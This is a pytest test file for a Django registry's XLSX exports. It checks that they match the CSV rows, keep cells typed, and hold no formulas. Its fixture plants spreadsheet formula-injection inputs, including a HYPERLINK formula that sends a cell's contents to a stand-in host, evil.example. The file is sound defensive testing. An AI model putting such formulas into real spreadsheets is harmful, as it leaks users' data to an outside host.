"""The XLSX beside each CSV (issue 15, item 4): the same rows, typed cells, and no formula anywhere.

A comma-separated file opened with a double click in Excel set to Russian lands in one column; the XLSX needs
no separator. Read back here by openpyxl, as a spreadsheet would read it.
"""

import csv
import datetime as dt
import io
import json
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from django.core.management import CommandError, call_command
from django.urls import reverse
from django.utils.translation import override

import registry.exports.xlsx as xlsx_module
from registry.exports import DATASETS, ExportFilters
from registry.models import ExportLog, Facility, Firm, GridConnection, MeterReading
from registry.services.exports import export_prepare, export_start
from tests.factories import (
    EnforcementActionFactory,
    FlagFactory,
    FlagMeterFactory,
    InspectionFactory,
    PowerDeclarationFactory,
)

UTC = dt.UTC
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def export_bytes(dataset: str, file_format: str = "csv", **filters) -> bytes:
    chosen_filters = ExportFilters(**filters)
    chosen = export_prepare(dataset_name=dataset, filters=chosen_filters, file_format=file_format)
    return b"".join(export_start(dataset=chosen, filters=chosen_filters, actor="pytest", file_format=file_format))


def csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def sheet(data: bytes):
    return openpyxl.load_workbook(io.BytesIO(data)).active


def xlsx_rows(data: bytes) -> list[list]:
    return [[cell.value for cell in row] for row in sheet(data).iter_rows()]


def as_csv_would_say(value, csv_text: str) -> bool:
    """Tell whether an XLSX cell holds what the CSV's cell says, typed: numbers, dates, text."""
    if value is None:
        return csv_text == ""
    if isinstance(value, bool):
        return csv_text == str(value).lower()
    if isinstance(value, (int, float)):
        return Decimal(str(value)) == Decimal(csv_text)
    if isinstance(value, dt.datetime):  # dates are read back as datetimes at midnight
        if csv_text.endswith("Z"):  # a spreadsheet keeps instants to the millisecond
            instant = dt.datetime.fromisoformat(csv_text.replace("Z", "+00:00"))
            return abs(value.replace(tzinfo=UTC) - instant) < dt.timedelta(milliseconds=1)
        if len(csv_text) == len("2025-01"):
            return (value.day, value.time()) == (1, dt.time()) and value.strftime("%Y-%m") == csv_text
        return value.time() == dt.time() and value.date().isoformat() == csv_text
    if csv_text.startswith(("{", "[")):
        return json.loads(value) == json.loads(csv_text)
    # Text keeps its own characters; the CSV adds an apostrophe where a spreadsheet could see a formula.
    return csv_text in (value, "'" + value) or csv_text.replace(";'", ";").removeprefix("'") == value


@pytest.fixture
def world(firm_a, firm_b):
    """A row or more in every dataset, formulas planted in text columns, numbers, dates and instants."""
    Firm.objects.filter(pk=firm_a.pk).update(address="x;=1+1;y", email="office@alpha.kz")
    GridConnection.objects.filter(meter_id="PV-0001").update(consumer_name="@SUM(A1)", contracted_mw=Decimal("5"))
    connection = GridConnection.objects.get(meter_id="PV-0001")
    for hour, kwh in enumerate(["1250.5", "0", "999999999.999"]):
        MeterReading.objects.create(
            connection=connection, period_start=dt.datetime(2026, 10, 1, hour, tzinfo=UTC), kwh=Decimal(kwh)
        )
    facility = Facility.objects.get(ref="FAC-A1")
    PowerDeclarationFactory(facility=facility, month=dt.date(2026, 9, 1), consumed_mwh=Decimal("100.5"), devices=7)
    flag = FlagFactory(
        facility=Facility.objects.get(ref="FAC-B1"),
        firm=firm_b,
        month=dt.date(2026, 9, 1),
        window_start=dt.datetime(2026, 10, 1, tzinfo=UTC),
        window_end=dt.datetime(2026, 11, 1, tzinfo=UTC),
        evidence={"avg_mw": 1.5, "note": "a;=1"},
        decision_reason=FORMULA,
    )
    FlagMeterFactory(flag=flag, connection=connection)
    InspectionFactory(facility=facility, firm=firm_a, date=dt.date(2026, 10, 2), findings="+7 727", devices_found=3)
    EnforcementActionFactory(
        action="equipment_confiscated",
        firm=firm_b,
        region="karaganda",
        date=dt.date(2026, 10, 3),
        devices=2400,
        value_usd=Decimal("6900000.00"),
        notes="-2",
    )
    return firm_a


@pytest.mark.parametrize("dataset", list(DATASETS))
def test_the_xlsx_has_the_same_rows_as_the_csv(world, dataset):
    expected = csv_rows(export_bytes(dataset))

    got = xlsx_rows(export_bytes(dataset, "xlsx"))

    if dataset == "audit":  # the CSV's own export, logged, is in the trail that the XLSX exports
        got = [row for row in got if row[1] != "registry.ExportLog"]
        expected = [row for row in expected if row[1] != "registry.ExportLog"]
    assert len(got) == len(expected) > 1
    assert got[0] == expected[0]  # the header row
    for xlsx_row, csv_row in zip(got[1:], expected[1:], strict=True):
        assert len(xlsx_row) == len(csv_row)
        mismatches = [(v, t) for v, t in zip(xlsx_row, csv_row, strict=True) if not as_csv_would_say(v, t)]
        assert mismatches == [], (dataset, xlsx_row, csv_row)


@pytest.mark.parametrize("dataset", list(DATASETS))
def test_no_cell_of_any_xlsx_is_a_formula(world, dataset):
    data = export_bytes(dataset, "xlsx")

    cells = [cell for row in sheet(data).iter_rows() for cell in row]

    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        assert b"<f>" not in package.read("xl/worksheets/sheet1.xml")
    # Text is typed text, with Excel's own quote prefix: entered again, it stays text.
    assert all(cell.quotePrefix for cell in cells if cell.data_type == "s" and cell.value)


def test_planted_formulas_come_back_as_the_text_they_are(world):
    values = {value for row in xlsx_rows(export_bytes("flags", "xlsx"))[1:] for value in row}
    firms = xlsx_rows(export_bytes("firms", "xlsx"))
    connections = xlsx_rows(export_bytes("connections", "xlsx"))

    assert FORMULA in values
    assert "x;=1+1;y" in firms[1]
    assert "@SUM(A1)" in connections[1]


def test_numbers_are_numbers_and_dates_are_dates(world):
    readings = xlsx_rows(export_bytes("readings", "xlsx"))
    enforcement = xlsx_rows(export_bytes("enforcement", "xlsx"))
    declarations = xlsx_rows(export_bytes("declarations", "xlsx"))

    assert readings[1:] == [
        ["PV-0001", dt.datetime(2026, 10, 1, 0), 1250.5],
        ["PV-0001", dt.datetime(2026, 10, 1, 1), 0],
        ["PV-0001", dt.datetime(2026, 10, 1, 2), 999999999.999],
    ]
    action = dict(zip(enforcement[0], enforcement[1], strict=True))
    assert (action["date"], action["devices"], action["value_usd"]) == (dt.datetime(2026, 10, 3), 2400, 6900000)
    assert (action["operator_bin"], action["notes"]) == (world.__class__.objects.get(region="karaganda").bin, "-2")
    declaration = dict(zip(declarations[0], declarations[1], strict=True))
    assert (declaration["month"], declaration["consumed_mwh"], declaration["is_current"]) == (
        dt.datetime(2026, 9, 1),
        100.5,
        True,
    )


def test_cells_show_as_the_csv_writes_them(world):
    cells = {cell.column_letter: cell for cell in sheet(export_bytes("readings", "xlsx"))[2]}

    assert cells["B"].number_format == 'yyyy-mm-dd hh:mm:ss "UTC"'
    assert cells["C"].number_format == "0.000"


# Downloads


def test_the_xlsx_download_answers_with_its_content_type_and_filename(client, auditor, world):
    client.force_login(auditor)

    response = client.get(reverse("exports:download_xlsx", args=["firms"]) + "?region=pavlodar")

    assert response.status_code == 200
    assert response["Content-Type"] == XLSX
    assert response["Content-Disposition"].startswith('attachment; filename="firms-')
    assert response["Content-Disposition"].endswith('.xlsx"')
    rows = xlsx_rows(b"".join(response.streaming_content))
    assert [row[0] for row in rows] == ["bin", world.bin]
    entry = ExportLog.objects.get()
    assert (entry.user, entry.dataset, entry.filters, entry.row_count) == (
        auditor,
        "firms",
        {"region": "pavlodar", "format": "xlsx"},
        1,
    )


def test_the_exports_page_offers_each_dataset_as_xlsx(client, auditor):
    client.force_login(auditor)

    page = client.get(reverse("exports:index")).content.decode()

    assert all(f'formaction="{name}.xlsx"' in page for name in DATASETS)


def test_the_admin_exports_the_selected_rows_as_xlsx(client, regulator, world, firm_b):
    client.force_login(regulator)

    response = client.post(
        reverse("admin:registry_firm_changelist"), {"action": "export_xlsx", "_selected_action": [firm_b.pk]}
    )

    assert response["Content-Type"] == XLSX
    assert [row[0] for row in xlsx_rows(b"".join(response.streaming_content))] == ["bin", firm_b.bin]
    assert ExportLog.objects.get().filters == {"selected": "1", "format": "xlsx"}


def test_the_command_writes_xlsx_for_an_out_file_so_named(world, tmp_path):
    out = tmp_path / "firms.xlsx"

    call_command("export", "firms", "--out", str(out))

    assert [row[0] for row in xlsx_rows(out.read_bytes())][1:] == sorted(Firm.objects.values_list("bin", flat=True))


def test_the_command_writes_xlsx_when_asked(world, capsysbinary):
    call_command("export", "readings", "--format", "xlsx")

    assert len(xlsx_rows(capsysbinary.readouterr().out)) == 1 + 3


def test_the_command_refuses_a_format_its_file_name_contradicts(world, tmp_path):
    with override("en"), pytest.raises(CommandError, match="named as a csv file"):
        call_command("export", "firms", "--format", "xlsx", "--out", str(tmp_path / "firms.csv"))

    assert list(tmp_path.iterdir()) == []


# What a sheet cannot hold


def test_more_rows_than_a_sheet_holds_are_refused_before_anything_is_written(client, auditor, world, monkeypatch):
    monkeypatch.setattr(xlsx_module, "MAX_ROWS", 2)
    client.force_login(auditor)

    response = client.get(reverse("exports:download_xlsx", args=["readings"]))

    assert response.status_code == 400
    assert "more than a spreadsheet sheet holds" in response.content.decode()
    assert not ExportLog.objects.exists()
    csv_download = client.get(reverse("exports:download", args=["readings"]))
    assert len(b"".join(csv_download.streaming_content).splitlines()) == 1 + 3  # the CSV has them all


def test_the_command_refuses_more_rows_than_a_sheet_holds(world, tmp_path, monkeypatch):
    monkeypatch.setattr(xlsx_module, "MAX_ROWS", 2)

    with override("en"), pytest.raises(CommandError, match="download the CSV"):
        call_command("export", "readings", "--out", str(tmp_path / "readings.xlsx"))

    assert list(tmp_path.iterdir()) == []


def test_a_text_longer_than_a_cell_holds_fails_the_xlsx_and_the_log_says_so(world, monkeypatch):
    monkeypatch.setattr(xlsx_module, "MAX_TEXT", 10)

    with override("en"), pytest.raises(Exception, match="more than a spreadsheet cell holds"):
        export_bytes("flags", "xlsx")

    entry = ExportLog.objects.with_failed().get()
    assert (entry.row_count, entry.failed) == (None, True)
